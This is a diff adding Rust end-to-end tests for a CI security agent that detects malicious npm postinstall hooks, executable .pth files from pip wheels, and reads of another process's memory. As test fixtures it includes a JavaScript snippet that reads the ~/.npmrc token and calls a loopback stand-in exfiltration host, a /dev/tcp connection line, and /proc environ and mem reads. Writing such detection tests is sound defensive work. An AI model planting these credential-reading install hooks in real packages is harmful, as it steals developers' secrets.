@@ -1,0 +1,254 @@
+//! End-to-end detections: the real agent with the real probes, judging real package managers run
+//! as steps of a job laid out like a GitHub runner's (see `FakeRunner`).
+
+use std::{io::Read as _, net::TcpListener, process::Command};
+
+use integration_tests::{rule, Agent, FakeRunner, Value};
+
+/// Judges loopback like any other destination, so the sink below is unexpected egress.
+const STRICT_PROFILE: &str = "version: 1\negress:\n  allow: []\n";
+
+/// A loopback sink standing in for an exfiltration host: accepts, reads what comes and hangs up,
+/// so clients that wait for the peer to close (node's `socket.end`) finish.
+fn sink() -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut conn in listener.incoming().flatten() {
+            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+            let _ = conn.read_to_end(&mut Vec::new());
+        }
+    });
+    port
+}
+
+/// An npm package as a tarball made by `npm pack` (no registry involved).
+fn npm_package(
+    dir: &std::path::Path,
+    name: &str,
+    scripts: &str,
+    files: &[(&str, &str)],
+) -> std::path::PathBuf {
+    let pkg = dir.join(name);
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::write(
+        pkg.join("package.json"),
+        format!(r#"{{"name":"{name}","version":"1.0.0","scripts":{{{scripts}}}}}"#),
+    )
+    .unwrap();
+    for (file, text) in files {
+        std::fs::write(pkg.join(file), text).unwrap();
+    }
+    let out = Command::new("npm")
+        .args(["pack", "--silent", "--pack-destination"])
+        .arg(dir)
+        .current_dir(&pkg)
+        .output()
+        .expect("npm pack");
+    assert!(
+        out.status.success(),
+        "npm pack: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    dir.join(format!("{name}-1.0.0.tgz"))
+}
+
+fn by_rule<'a>(findings: &'a [Value], r: &str) -> Vec<&'a Value> {
+    findings.iter().filter(|f| rule(f) == r).collect()
+}
+
+#[test]
+fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
+    let agent = Agent::start_with_profile(STRICT_PROFILE);
+    let runner = FakeRunner::new();
+    let port = sink();
+    std::fs::write(
+        runner.home.join(".npmrc"),
+        "//registry.example.invalid/:_authToken=npm_CANARYcanaryCANARYcanaryCANARY0000\n",
+    )
+    .unwrap();
+    let steal = format!(
+        "const fs=require('fs'),net=require('net'),os=require('os');\
+         const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\
+         const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
+    );
+    let tgz = npm_package(
+        runner.dir.path(),
+        "evil-pkg",
+        r#""postinstall":"node steal.js""#,
+        &[("steal.js", &steal)],
+    );
+    std::fs::write(
+        runner.workspace.join("package.json"),
+        r#"{"name":"app","version":"1.0.0"}"#,
+    )
+    .unwrap();
+    runner.run_job(&[(
+        "__run",
+        &format!(
+            "npm install --offline --no-audit --no-fund {}\n",
+            tgz.display()
+        ),
+    )]);
+
+    let findings = agent.wait_for_findings("hook, credential read and egress", |all| {
+        let mine = runner.findings_of(all);
+        ["lifecycle-hook", "credential-read", "unexpected-egress"]
+            .iter()
+            .all(|r| !by_rule(&mine, r).is_empty())
+    });
+    let mine = runner.findings_of(&findings);
+    for f in &mine {
+        assert_eq!(f["job"]["name"], "build", "{f}");
+        assert_eq!(f["step"]["id"], "__run", "{f}");
+    }
+    let hook = by_rule(&mine, "lifecycle-hook");
+    assert_eq!(hook[0]["evidence"]["package"], "evil-pkg", "{}", hook[0]);
+    assert_eq!(hook[0]["hook"]["script"], "postinstall");
+    let reads = by_rule(&mine, "credential-read");
+    assert_eq!(
+        reads.len(),
+        1,
+        "only the hook's read, not npm's own: {reads:?}"
+    );
+    let read = reads[0];
+    assert_eq!(
+        read["evidence"]["path"].as_str(),
+        Some(runner.home.join(".npmrc").to_str().unwrap())
+    );
+    assert_eq!(read["severity"], "critical");
+    assert_eq!(read["hook"]["package"], "evil-pkg");
+    let chain: Vec<String> = read["process_chain"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| l["argv"].to_string())
+        .collect();
+    assert!(chain[0].contains("steal.js"), "{chain:?}");
+    assert!(
+        chain.last().unwrap().contains("step-0.sh"),
+        "the chain ends at the step's root: {chain:?}"
+    );
+    let egress = by_rule(&mine, "unexpected-egress");
+    assert_eq!(egress[0]["evidence"]["port"].as_u64(), Some(port as u64));
+    assert_eq!(egress[0]["hook"]["package"], "evil-pkg");
+    // The canary token never reaches the logs.
+    let written = std::fs::read_to_string(&agent.events_path).unwrap()
+        + &std::fs::read_to_string(&agent.findings_path).unwrap();
+    assert!(
+        !written.contains("CANARYcanary"),
+        "secret leaked into events or findings"
+    );
+}
+
+#[test]
+fn benign_twins_give_no_finding() {
+    let agent = Agent::start_with_profile(STRICT_PROFILE);
+    let runner = FakeRunner::new();
+    std::fs::write(runner.home.join(".npmrc"), "fund=false\n").unwrap();
+    let tgz = npm_package(
+        runner.dir.path(),
+        "plain-pkg",
+        "",
+        &[("index.js", "module.exports=1")],
+    );
+    std::fs::write(
+        runner.workspace.join("package.json"),
+        r#"{"name":"app","version":"1.0.0"}"#,
+    )
+    .unwrap();
+    runner.run_job(&[
+        // npm installing a package without scripts, reading its own .npmrc.
+        ("__run", &format!("npm install --offline --no-audit --no-fund {}\n", tgz.display())),
+        // ps and pgrep read /proc/*/cmdline; a process reads its own environ.
+        ("__run_2", "ps aux >/dev/null; pgrep -f Runner.Worker >/dev/null || true; cat /proc/self/environ >/dev/null\n"),
+    ]);
+    // A marker step whose finding proves the agent had judged everything before it.
+    let port = sink();
+    runner.run_job(&[(
+        "marker",
+        &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-\n"),
+    )]);
+    let findings = agent.wait_for_findings("the marker step's egress", |all| {
+        runner
+            .findings_of(all)
+            .iter()
+            .any(|f| f["step"]["id"] == "marker")
+    });
+    let others: Vec<_> = runner
+        .findings_of(&findings)
+        .into_iter()
+        .filter(|f| f["step"]["id"] != "marker")
+        .collect();
+    assert!(others.is_empty(), "false positives: {others:#?}");
+}
+
+#[test]
+fn pth_file_installed_by_pip_is_found_when_python_starts() {
+    let agent = Agent::start_with_profile(STRICT_PROFILE);
+    let runner = FakeRunner::new();
+    // A wheel that installs an executable .pth, as litellm 1.82.8 did (made here, no index).
+    let wheel = runner.dir.path().join("evilpth-0.1-py3-none-any.whl");
+    let made = Command::new("python3")
+        .arg("-c")
+        .arg(format!(
+            "import zipfile\n\
+             z=zipfile.ZipFile('{w}','w')\n\
+             z.writestr('evilpth_init.pth','import os; os.environ.get(\"HOME\")\\n')\n\
+             z.writestr('evilpth-0.1.dist-info/METADATA','Metadata-Version: 2.1\\nName: evilpth\\nVersion: 0.1\\n')\n\
+             z.writestr('evilpth-0.1.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
+             z.writestr('evilpth-0.1.dist-info/RECORD','')\n\
+             z.close()\n",
+            w = wheel.display()
+        ))
+        .status()
+        .unwrap();
+    assert!(made.success());
+    runner.run_job(&[(
+        "install",
+        &format!(
+            "python3 -m venv --without-pip venv\n\
+             python3 -m pip --python venv/bin/python install --no-index --no-deps --disable-pip-version-check -q {}\n\
+             venv/bin/python -c pass\n",
+            wheel.display()
+        ),
+    )]);
+    let findings = agent.wait_for_findings("pth-executed", |all| {
+        !by_rule(&runner.findings_of(all), "pth-executed").is_empty()
+    });
+    let mine = runner.findings_of(&findings);
+    let f = by_rule(&mine, "pth-executed")[0];
+    assert!(
+        f["evidence"]["path"]
+            .as_str()
+            .unwrap()
+            .ends_with("/site-packages/evilpth_init.pth"),
+        "{f}"
+    );
+    assert_eq!(f["evidence"]["executable_lines"], true);
+    assert_eq!(f["step"]["id"], "install");
+    assert!(
+        f["process_chain"][0]["argv"].to_string().contains("pass"),
+        "the interpreter that ran it: {f}"
+    );
+}
+
+#[test]
+fn reading_a_sibling_process_memory_is_found() {
+    let agent = Agent::start_with_profile(STRICT_PROFILE);
+    let runner = FakeRunner::new();
+    runner.run_job(&[(
+        "__actions_changed-files",
+        "sleep 30 & victim=$!\nhead -c1 /proc/$victim/mem >/dev/null 2>&1 || true\ncat /proc/$victim/environ >/dev/null\nkill $victim\n",
+    )]);
+    let findings = agent.wait_for_findings("memory and environ reads", |all| {
+        let mine = runner.findings_of(all);
+        !by_rule(&mine, "process-memory-read").is_empty()
+            && !by_rule(&mine, "process-environ-read").is_empty()
+    });
+    let mine = runner.findings_of(&findings);
+    let mem = by_rule(&mine, "process-memory-read")[0];
+    assert_eq!(mem["severity"], "critical");
+    assert!(mem["evidence"]["path"].as_str().unwrap().ends_with("/mem"));
+    assert_eq!(mem["step"]["id"], "__actions_changed-files");
+}
